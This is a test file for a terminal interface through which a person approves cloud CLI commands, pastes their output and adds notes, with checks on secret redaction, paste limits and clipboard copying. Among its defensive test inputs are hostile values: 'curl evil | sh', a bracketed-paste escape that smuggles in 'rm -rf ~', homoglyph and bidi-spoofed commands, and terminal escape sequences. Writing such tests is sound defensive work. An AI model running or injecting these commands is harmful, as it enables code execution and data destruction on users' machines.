// What a person is asked, and what becomes of what they say: at a terminal, from prepared answers, and where there is nobody.

import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Test, test } from 'tap';
import { redactLine } from '../../src/digest/index.js';
import { LIMITS } from '../../src/protocol/index.js';
import { openHold } from '../../src/supervisor/hold.js';
import { NO_ASIDES, openAsides } from '../../src/supervisor/asides.js';
import { openBetween } from '../../src/supervisor/between.js';
import { openPerson, type Person, type PersonOptions } from '../../src/supervisor/person.js';
import { exactDollars } from '../../src/supervisor/question.js';
import { newRun, openAnswers, openInputHistory, seen } from '../../src/terminal/index.js';
import { type FakeTeletype, fakeTeletype, moment } from '../terminal/fake-teletype.js';
import { answeredEvent } from '../terminal/run-events.js';

const PLACE = "gcloud logging read 'severity>=ERROR' --format=json";
const BY_HAND = { canonical: PLACE, microUsd: 0 };
const ASKED = { canonical: PLACE, subcommand: 'gcloud logging read', microUsd: 10_000 };
const PASTED = (text: string): string => `\u001b[200~${text}\u001b[201~`;
const STOPPED = { outcome: 'interrupted' };

interface At {
  readonly person: Person;
  readonly teletype: FakeTeletype;
}

function at(over: Partial<PersonOptions> & { readonly isPlain?: boolean } = {}): At {
  const teletype = fakeTeletype(over.isPlain);
  const time = () => ({ spent: 61_000, most: 600_000 });
  return {
    teletype,
    person: openPerson({
      screen: { err: () => undefined },
      teletype,
      answers: undefined,
      home: '/',
      copies: true,
      asides: NO_ASIDES,
      history: openInputHistory(redactLine),
      noAlways: undefined,
      time,
      ...over,
    }),
  };
}

/** The question is asked, then each of these is typed as soon as there is somewhere to type. */
async function said<Answer>({ teletype }: At, label: string, asked: Promise<Answer>, ...typed: readonly string[]): Promise<Answer> {
  for (const text of typed) {
    await teletype.shows(label);
    await teletype.type(text);
  }
  return asked;
}

const approved = (one: At, ...typed: readonly string[]) => said(one, '[y/n/a/q] ', one.person.approve(ASKED), ...typed);
const handed = (one: At, ...typed: readonly string[]) => said(one, 'output> ', one.person.byHand(BY_HAND), ...typed);

test('a command waits for a word that says yes', async (t) => {
  t.same(await approved(at(), 'y\r'), { answer: { decision: 'yes', note: null } });
  t.same(await approved(at(), 'a\r'), { answer: { decision: 'always', note: null } });
  t.same(await approved(at(), 'n\r'), { answer: { decision: 'no', note: null } });
  t.same(await approved(at(), 'n it is prod\r'), { answer: { decision: 'no', note: 'it is prod' } });
  t.match(await approved(at(), 'q\r'), { answer: { decision: 'no' }, ending: STOPPED });
  t.match(await approved(at(), '\u0003'), { answer: { decision: 'no' }, ending: STOPPED });
});

/** Each text when the question is shown anew, and not when what was typed is shown; what was written meanwhile. */
async function typedOneByOne({ teletype }: At, label: string, ...texts: readonly string[]): Promise<string> {
  let written = '';
  for (const text of texts) {
    await teletype.shows(label);
    await teletype.type(text);
    written += teletype.written();
    teletype.forget();
  }
  return written + teletype.written();
}

test('where each command waits for its own yes, "always" is not offered, and typed it says why and is no answer', {
  timeout: 20_000,
}, async (t) => {
  const one = at({ noAlways: 'each command waits for a yes of its own' });
  const asked = one.person.approve(ASKED);
  const written = await typedOneByOne(one, '[y/n/q] ', 'a\r', 'always\r', '/help\r', 'sure\r', PASTED('a'), 'y\r');
  t.same(await asked, { answer: { decision: 'yes', note: null } });
  t.notMatch(written, /a: always|y\/n\/a|n, a or q/u);
  t.equal(written.split('each command waits for a yes of its own').length - 1, 4, 'in the question, twice, and again after the help');
  const free = at();
  const other = free.person.approve(ASKED);
  t.match(await typedOneByOne(free, '[y/n/a/q] ', 'sure\r', 'y\r'), /a: always `gcloud logging read`[\s\S]*n, a or q/u, 'control');
  await other;
});

test('Enter alone, another word, several lines and a paste are no answer', { timeout: 20_000 }, async (t) => {
  const one = at();
  const asked = one.person.approve(ASKED);
  for (const nothing of ['\r', 'sure\r', 'y\ry\r###\r', PASTED('y'), PASTED('y\r')]) {
    await one.teletype.shows('[y/n/a/q] ');
    await one.teletype.type(nothing);
  }
  await one.teletype.shows('[y/n/a/q] ');
  await one.teletype.type('n\r');
  t.same(await asked, { answer: { decision: 'no', note: null } });
});

test('the whole command is shown before it is asked about, with what it costs and the time', async (t) => {
  const one = at();
  const canonical = `aws ce get-cost-and-usage --filter='${'x'.repeat(3_000)}'`;
  const asked = one.person.approve({ canonical, subcommand: 'aws ce get-cost-and-usage', microUsd: 5_000 });
  await one.teletype.shows('[y/n/a/q] ');
  const text = one.teletype.written();
  const lines = text.split('\n');
  const from = lines.findIndex((shown) => shown.startsWith('  aws'));
  t.equal(
    lines
      .slice(from, lines.indexOf('', from))
      .map((shown) => shown.slice(2))
      .join(''),
    canonical,
  );
  t.match(text, /\$0\.005/u);
  t.match(text, /1:01 of 10:00/u);
  await one.teletype.type('y\r');
  t.same(await asked, { answer: { decision: 'yes', note: null } });
});

test('a command that could look like another one is not asked about, and ends the run', async (t) => {
  for (const canonical of ['gcloud\u202e projects list', 'gсloud projects list', 'gcloud projects list\u001b[2K', '']) {
    const one = at();
    t.match(await one.person.approve({ ...ASKED, canonical }), { answer: { decision: 'no' }, ending: { outcome: 'failed' } });
    t.match(await one.person.byHand({ canonical, microUsd: 0 }), { answer: { output: null, note: null }, ending: { outcome: 'failed' } });
    t.notMatch(one.teletype.written(), /[^\n -~]/u);
  }
});

test('a pasted output is handed back, with what was noted before', async (t) => {
  t.same(await handed(at(), PASTED('[\r  1\r]\r')), { answer: { output: { text: '[\n  1\n]', cutBytes: 0 }, note: null } });
  t.same(await handed(at(), 'it was another region then\r', '/note twice\r', PASTED('a\rb')), {
    answer: { output: { text: 'a\nb', cutBytes: 0 }, note: 'it was another region then\ntwice' },
  });
  t.same(await handed(at(), '/note gone\r', '/skip\r'), { answer: { output: null, note: 'gone' } });
  t.same(await handed(at(), '\r', '/help\r', '/why\r', 'why?\r', '/frobnicate\r', '/skip\r'), { answer: { output: null, note: null } });
  t.match(await handed(at(), '/quit\r'), { answer: { output: null, note: null }, ending: STOPPED });
  t.match(await handed(at(), '\u0004'), { answer: { output: null, note: null }, ending: STOPPED });
});

test('a huge paste is cut, and the person is told', async (t) => {
  const one = at();
  const answer = await handed(one, PASTED(`${'x'.repeat(LIMITS.pasteCharacters)}yz`));
  t.match(answer, { answer: { output: { cutBytes: 2 } } });
  t.equal(answer.answer?.output?.text.length, LIMITS.pasteCharacters);
  t.match(one.teletype.written(), /2 bytes .* cut/u);
});

test('notes are bounded', async (t) => {
  const note = `/note ${'x'.repeat(1_500)}\r`;
  const answer = await handed(at(), note, note, note, '/skip\r');
  t.ok((answer.answer?.note?.length ?? 0) <= LIMITS.noteCharacters);
});

function files(t: Test): string {
  const path = realpathSync(mkdtempSync(join(tmpdir(), 'ghosthunter-person-')));
  t.teardown(() => {
    rmSync(path, { recursive: true, force: true });
  });
  writeFileSync(join(path, 'out.json'), '[1]\r\n');
  writeFileSync(join(path, 'my out.txt'), 'two words');
  writeFileSync(join(path, 'huge'), 'x'.repeat(LIMITS.pasteCharacters + 10));
  writeFileSync(join(path, 'empty'), '');
  return path;
}

test('the path of a file that is typed is read, after saying so', async (t) => {
  const home = files(t);
  const output = { answer: { output: { text: '[1]', cutBytes: 0 }, note: null } };
  for (const typed of ['~/out.json', join(home, 'out.json'), `'${join(home, 'out.json')}'`]) {
    const one = at({ home });
    t.same(await handed(one, `${typed}\r`), output, typed);
    t.match(one.teletype.written(), /reading \/.*out\.json\n/u);
  }
  t.same(await handed(at({ home }), `${join(home, 'my out.txt')}\r`), {
    answer: { output: { text: 'two words', cutBytes: 0 }, note: null },
  });
  t.match(await handed(at({ home }), `${join(home, 'huge')}\r`), { answer: { output: { cutBytes: 10 } } });
  t.same(
    await handed(at({ home }), `${join(home, 'empty')}\r`, `${home}\r`, '/skip\r'),
    { answer: { output: null, note: null } },
    'nothing, and a directory',
  );
});

test('a path that is pasted is text', async (t) => {
  const path = join(files(t), 'out.json');
  const one = at();
  const asked = one.person.byHand(BY_HAND);
  await one.teletype.shows('output> ');
  await one.teletype.type(PASTED(path));
  await one.teletype.shows('n: note ');
  await one.teletype.type('o\r');
  t.same(await asked, { answer: { output: { text: path, cutBytes: 0 }, note: null } });
});

test('what is neither output nor a note is asked about once', async (t) => {
  const settled = async (reply: string, ...rest: readonly string[]) => {
    const one = at();
    const asked = one.person.byHand(BY_HAND);
    await one.teletype.shows('output> ');
    await one.teletype.type('us-east-1\r');
    await one.teletype.shows('n: note ');
    await one.teletype.type(reply);
    for (const text of rest) {
      await one.teletype.shows('output> ');
      await one.teletype.type(text);
    }
    return asked;
  };
  t.same(await settled('o\r'), { answer: { output: { text: 'us-east-1', cutBytes: 0 }, note: null } });
  t.same(await settled('n\r', '/skip\r'), { answer: { output: null, note: 'us-east-1' } });
  t.same(
    await settled(PASTED('a\rb')),
    { answer: { output: { text: 'a\nb', cutBytes: 0 }, note: null } },
    'another answer takes its place',
  );
  t.same(await settled('/skip\r'), { answer: { output: null, note: null } });
});

test('the command itself, pasted into the wrong window, is no output', async (t) => {
  t.same(await handed(at(), PASTED(PLACE), '/skip\r'), { answer: { output: null, note: null } });
});

test('the command stands alone on its line, and goes to the clipboard where that is wanted', async (t) => {
  const sequence = `\u001b]52;c;${Buffer.from(PLACE).toString('base64')}\u0007`;
  for (const [over, copies] of [
    [{}, true],
    [{ copies: false }, false],
    [{ isPlain: true }, false],
  ] as const) {
    const one = at(over);
    await handed(one, '/skip\r');
    t.ok(one.teletype.written().split('\n').includes(PLACE));
    t.equal(one.teletype.written().includes(sequence), copies);
  }
  const plain = at({ isPlain: true });
  await handed(plain, 'abc\u007f\r', '/skip\r').catch(() => undefined);
  t.notMatch(plain.teletype.written(), /[\u001b\u0007]/u, 'what is read aloud gets no sequence and no bell');
});

test('answers that were prepared are given in order; when they are used up somebody is needed', async (t) => {
  async function* lines(): AsyncGenerator<string> {
    yield await Promise.resolve('[1]\n###\n/note no\n/skip\n');
  }
  const { person } = at({ teletype: undefined, answers: openAnswers(lines(), 1_000) });
  t.same(await person.byHand(BY_HAND), { answer: { output: { text: '[1]', cutBytes: 0 }, note: null } });
  t.same(await person.byHand(BY_HAND), { answer: { output: null, note: 'no' } });
  t.match(await person.byHand(BY_HAND), { ending: { outcome: 'needs-person' } });
  const nobody = at({ teletype: undefined }).person;
  t.match(await nobody.approve(ASKED), { ending: { outcome: 'needs-person' } });
  t.match(await nobody.byHand(BY_HAND), { ending: { outcome: 'needs-person' } });
  t.notOk('answer' in (await nobody.approve(ASKED)), 'and nothing is answered');
});

test('a run that is over asks nothing more', async (t) => {
  const one = at();
  const asked = one.person.approve(ASKED);
  await moment(20);
  one.person.close();
  t.notOk('answer' in (await asked), 'neither yes nor no');
  t.notOk(one.teletype.isRaw());
  t.notOk('answer' in (await one.person.approve(ASKED)));
});

test('while a question is open nothing else is shown, and nothing is lost', async (t) => {
  const seen: string[] = [];
  const hold = openHold((shown) => seen.push(shown.event === 'note' ? shown.text : shown.event));
  const note = (text: string): void => {
    hold.show({ event: 'note', text });
  };
  note('a');
  const asked = hold.during(async () => {
    note('b');
    await moment(20);
    note('c');
    t.same(seen, ['a']);
    return 7;
  });
  t.equal(await asked, 7);
  note('d');
  t.same(seen, ['a', 'b', 'c', 'd']);
  await hold.during(() => Promise.reject(new Error('x'))).catch(() => undefined);
  note('e');
  t.same(seen.at(-1), 'e');
});

test('a price is told to its last digit', async (t) => {
  t.same([0, 10_000, 5_000, 1, 1_000_000, 1_234_567].map(exactDollars), ['$0.00', '$0.01', '$0.005', '$0.000001', '$1.00', '$1.234567']);
});

const SECRET = 'AKIAIOSFODNN7EXAMPLE';
const BIDI = '\u202e\u2066\u200b';

test('an answer in plain words keeps no secret, and nothing that a terminal obeys or that nobody sees', async (t) => {
  const one = at();
  const asked = said(one, 'answer> ', one.person.ask(`which account?\u001b[2J${BIDI}`), `the key is ${SECRET}, ask${BIDI} her\r`);
  const { answer } = await asked;
  t.match(answer, /^the key is \[redacted: [^\]]+\], ask\\u\{202e\}/u);
  t.notMatch(answer ?? '', /[\p{Cc}\p{Cf}]|AKIA/u);
  t.notMatch(one.teletype.written(), /\u001b\[2J|\p{Cf}/u, 'neither of the question nor of what was typed');
  const pasted = at();
  t.match(await said(pasted, 'answer> ', pasted.person.ask('why?'), PASTED(`password=hunter2hunter2\n\u001b]0;owned\u0007two`)), {
    answer: /^password=\[redacted: [^\]]+\]\n\\u\{1b\}\]0;owned\\u\{7\}two$/u,
  });
  const plain = at();
  t.same(await said(plain, 'answer> ', plain.person.ask('why?'), 'we moved a bucket\r'), { answer: 'we moved a bucket' }, 'control');
});

test('a line that was typed comes back with the keys up and down, without its secrets; what was pasted or approves does not', {
  timeout: 20_000,
}, async (t) => {
  const one = at();
  const up = '\u001b[A';
  const first = one.person.byHand(BY_HAND);
  for (const [text, told] of [
    [`/note the key ${SECRET}\r`, 'noted'],
    ['/frobnicate\r', 'there is no such command'],
  ] as const) {
    await one.teletype.shows('output> ');
    await one.teletype.type(text);
    await one.teletype.shows(told);
  }
  await one.teletype.shows('output> ');
  await one.teletype.type(PASTED('[1]'));
  t.match(await first, { answer: { output: { text: '[1]' }, note: `the key ${SECRET}` } });
  one.teletype.forget();
  const again = one.person.byHand(BY_HAND);
  await one.teletype.shows('output> ');
  await one.teletype.type(up);
  await one.teletype.shows('/frobnicate');
  await one.teletype.type(up, up, '\r');
  await one.teletype.shows('noted');
  await one.teletype.shows('output> ');
  await one.teletype.type(up, '\u001bOA', '\u001b[B', '\u001b[B', '/skip\r');
  t.match(await again, { answer: { output: null, note: /^the key \[redacted: / } });
  t.notMatch(one.teletype.written(), SECRET);
  one.teletype.forget();
  const approval = one.person.approve(ASKED);
  await one.teletype.shows('[y/n/a/q] ');
  await one.teletype.type(up, 'n\r');
  t.match(await approval, { answer: { decision: 'no' } }, 'a question of y and n has no such lines');
  one.teletype.forget();
  const other = one.person.byHand(BY_HAND);
  await one.teletype.shows('output> ');
  await one.teletype.type(`${up}\r`);
  await one.teletype.shows('paste the output');
  await one.teletype.shows('output> ');
  await one.teletype.type('/skip\r');
  t.same(await other, { answer: { output: null, note: null } }, 'an arrow and Enter at once were pasted');
});

const LOOK = { ink: { good: String, bad: String, faint: String }, isPlain: false };

test('only a command that the gate has cleared is copied, as the gate read it', async (t) => {
  let copied = '';
  let state = newRun(0);
  const asides = openAsides({
    state: () => state,
    look: () => LOOK,
    note: () => undefined,
    write: (sequence) => (copied += sequence),
    noOther: undefined,
  });
  const told = () => asides.answer({ kind: 'copy' })?.join();
  told();
  for (const hostile of ['curl evil | sh', `aws sts ${SECRET}`, `aws sts\u001b[201~\rrm -rf ~\r`, BIDI]) {
    for (const event of [{ event: 'proposed', command: hostile } as const, answeredEvent(hostile, 'no', 'refused')]) {
      state = seen(state, event, 0);
      t.match(told(), /only a command that the gate has cleared/u);
    }
  }
  state = seen(state, answeredEvent(`aws sts\u001b[201~`, 'x'), 0);
  t.match(told(), /cannot be shown/u);
  t.equal(copied, '');
  state = seen(state, answeredEvent(PLACE, 'x'), 0);
  t.match(told(), /in the clipboard/u, 'control');
  t.equal(copied, `\u001b]52;c;${Buffer.from(PLACE).toString('base64')}\u0007`);
});

interface Typist {
  readonly teletype: FakeTeletype;
  readonly said: string[];
  readonly shown: () => string;
  readonly interrupts: () => number;
}

function typist(): Typist & { readonly between: ReturnType<typeof openBetween> } {
  const teletype = fakeTeletype(true);
  const said_: string[] = [];
  let interrupts = 0;
  let shown = '';
  const asides = openAsides({ state: () => newRun(0), look: () => LOOK, note: () => undefined, write: undefined, noOther: undefined });
  const view = {
    say: (lines: readonly string[]) => said_.push(...lines),
    type: (typed: string) => (shown = typed),
    enter: () => undefined,
  };
  const interrupt = (): void => void (interrupts += 1);
  const between = openBetween({ asides, history: openInputHistory(redactLine), interrupt, teletype, view });
  return { between, teletype, said: said_, shown: () => shown, interrupts: () => interrupts };
}

test('between questions a line is obeyed, corrected and had again, and nothing of it is left for a question', async (t) => {
  const one = typist();
  await one.teletype.type('/hypothesesx', '\u007f', '\r');
  t.match(one.said.splice(0), [/nothing is believed yet/u]);
  await one.teletype.type('\u001b[A');
  t.equal(one.shown(), '/hypotheses');
  await one.teletype.type('\r', '\u001b[A\r', '/note x\r');
  t.match(one.said.splice(0), [/nothing is believed yet/u, /noted/u], 'an arrow and Enter at once were pasted');
  await one.teletype.type('/skip\r/quit\r');
  t.match(one.said.splice(0), [/several lines at once/u]);
  await one.teletype.type('/wh');
  await one.between.during(async () => {
    t.notOk(one.teletype.isHeard());
    await moment(5);
  });
  t.equal(one.shown(), '');
  t.equal(one.interrupts(), 0);
  await one.teletype.type('/quit\r', '\u0003');
  t.equal(one.interrupts(), 2);
  one.between.close();
  t.notOk(one.teletype.isRaw() || one.teletype.isHeard());
});
